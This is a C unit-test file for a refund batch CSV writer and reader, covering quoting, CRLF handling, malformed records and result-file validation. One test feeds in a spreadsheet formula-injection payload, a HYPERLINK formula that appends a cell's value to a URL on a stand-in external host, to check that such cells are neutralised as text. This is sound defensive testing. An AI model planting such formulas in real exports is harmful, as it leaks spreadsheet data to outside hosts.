/* Refund batch files: rows written with RFC 4180 quoting read back field for
 * field; the reader's handling of quotes, CRLF, blank lines and malformed
 * records; the result file's header and lines. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "refund/refund_csv.h"

#include <string.h>

static void test_plain_fields_are_written_as_they_are(void **state)
{
    (void)state;
    pc_refund_csv_t c = {0};
    assert_string_equal(pc_refund_csv_text(&c), "");
    const char *f[] = {"R1", "P1", "400", NULL};
    pc_refund_csv_row(&c, f, 4);
    assert_string_equal(pc_refund_csv_text(&c), "R1,P1,400,\n");
    pc_refund_csv_free(&c);
}

static void test_special_fields_are_quoted_and_read_back(void **state)
{
    (void)state;
    pc_refund_csv_t c = {0};
    const char *f[] = {"R2", "a, b", "say \"hi\"", "two\nlines", ""};
    pc_refund_csv_row(&c, f, 5);
    assert_string_equal(pc_refund_csv_text(&c), "R2,\"a, b\",\"say \"\"hi\"\"\",\"two\nlines\",\n");
    pc_refund_csv_reader_t r;
    pc_refund_csv_reader_init(&r, c.p, c.len);
    char buf[256];
    const char *got[8];
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, got, 8), 5);
    for (int i = 0; i < 5; i++)
        assert_string_equal(got[i], f[i]);
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, got, 8), 0);
    pc_refund_csv_free(&c);
}

/* A merchant's refund reason is exported to a file ops open in a
 * spreadsheet: a cell that would run as a formula is written as text. */
static void test_formula_cells_are_written_as_text(void **state)
{
    (void)state;
    char b[5][80];
    const char *in[] = {"=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "+1", "-2", "@SUM(A1)",
                        "a=b"};
    const char *want[] = {"'=HYPERLINK(\"https://x.example/?\"&A2,\"Open\")", "'+1", "'-2",
                          "'@SUM(A1)", "a=b"};
    for (int i = 0; i < 5; i++)
        assert_string_equal(pc_refund_csv_inert(in[i], b[i], sizeof b[i]), want[i]);
    assert_null(pc_refund_csv_inert(NULL, b[0], sizeof b[0]));
    pc_refund_csv_t c = {0};
    const char *f[] = {"R3", pc_refund_csv_inert(in[0], b[0], sizeof b[0])};
    pc_refund_csv_row(&c, f, 2);
    assert_string_equal(pc_refund_csv_text(&c),
                        "R3,\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2,\"\"Open\"\")\"\n");
    pc_refund_csv_free(&c);
}

static void test_reader_takes_crlf_and_skips_blank_lines(void **state)
{
    (void)state;
    const char *text = "refund_no,status\r\n\r\nR1,SUCCESS\r\nR2,FAILED";
    pc_refund_csv_reader_t r;
    pc_refund_csv_reader_init(&r, text, strlen(text));
    char buf[128];
    const char *f[4];
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, f, 4), 2);
    assert_int_equal(r.line, 1);
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, f, 4), 2);
    assert_string_equal(f[0], "R1");
    assert_string_equal(f[1], "SUCCESS");
    assert_int_equal(r.line, 3);
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, f, 4), 2);
    assert_string_equal(f[1], "FAILED");
    assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, f, 4), 0);
}

static void test_malformed_records_are_refused(void **state)
{
    (void)state;
    const char *bad[] = {"\"open,quote\n", "\"x\"y,z\n", "a\"b,c\n", "a,b,c,d,e\n"};
    for (size_t i = 0; i < 4; i++) {
        pc_refund_csv_reader_t r;
        pc_refund_csv_reader_init(&r, bad[i], strlen(bad[i]));
        char buf[64];
        const char *f[4];
        assert_int_equal(pc_refund_csv_next(&r, buf, sizeof buf, f, 4), -1);
    }
    /* A record longer than the buffer is refused, never cut. */
    const char *longrec = "0123456789012345678901234567890123456789\n";
    pc_refund_csv_reader_t r;
    pc_refund_csv_reader_init(&r, longrec, strlen(longrec));
    char small[16];
    const char *f[4];
    assert_int_equal(pc_refund_csv_next(&r, small, sizeof small, f, 4), -1);
}

static void test_result_header_finds_columns_by_name(void **state)
{
    (void)state;
    const char *h[] = {"status", "note", "refund_no", "failure_code"};
    pc_refund_result_cols_t cols;
    const char *why = NULL;
    assert_int_equal(pc_refund_result_header(h, 4, &cols, &why), 0);
    assert_int_equal(cols.refund_no, 2);
    assert_int_equal(cols.status, 0);
    assert_int_equal(cols.failure_code, 3);
    assert_int_equal(cols.channel_ref, -1);
    const char *missing[] = {"refund_no", "result"};
    assert_int_equal(pc_refund_result_header(missing, 2, &cols, &why), -1);
    assert_non_null(strstr(why, "status"));
}

static void test_result_lines_are_validated(void **state)
{
    (void)state;
    const char *h[] = {"refund_no", "status", "channel_ref", "failure_code", "failure_message"};
    pc_refund_result_cols_t cols;
    const char *why = NULL;
    assert_int_equal(pc_refund_result_header(h, 5, &cols, &why), 0);
    pc_refund_result_line_t l;
    const char *ok[] = {"R123", "SUCCESS", "rfd_9", "", ""};
    assert_int_equal(pc_refund_result_line(&cols, ok, 5, &l, &why), 0);
    assert_true(l.success);
    assert_string_equal(l.channel_ref, "rfd_9");
    const char *failed[] = {"R124", "FAILED", "", "ACCOUNT_CLOSED", "closed"};
    assert_int_equal(pc_refund_result_line(&cols, failed, 5, &l, &why), 0);
    assert_false(l.success);
    assert_string_equal(l.failure_code, "ACCOUNT_CLOSED");
    /* Short records read missing optional columns as empty. */
    const char *shorter[] = {"R125", "FAILED"};
    assert_int_equal(pc_refund_result_line(&cols, shorter, 2, &l, &why), 0);
    assert_string_equal(l.failure_message, "");
    const char *bad_status[] = {"R126", "DONE"};
    assert_int_equal(pc_refund_result_line(&cols, bad_status, 2, &l, &why), -1);
    const char *bad_no[] = {"R1 27", "SUCCESS"};
    assert_int_equal(pc_refund_result_line(&cols, bad_no, 2, &l, &why), -1);
    const char *no_no[] = {"", "SUCCESS"};
    assert_int_equal(pc_refund_result_line(&cols, no_no, 2, &l, &why), -1);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_fields_are_written_as_they_are),
        cmocka_unit_test(test_special_fields_are_quoted_and_read_back),
        cmocka_unit_test(test_formula_cells_are_written_as_text),
        cmocka_unit_test(test_reader_takes_crlf_and_skips_blank_lines),
        cmocka_unit_test(test_malformed_records_are_refused),
        cmocka_unit_test(test_result_header_finds_columns_by_name),
        cmocka_unit_test(test_result_lines_are_validated),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
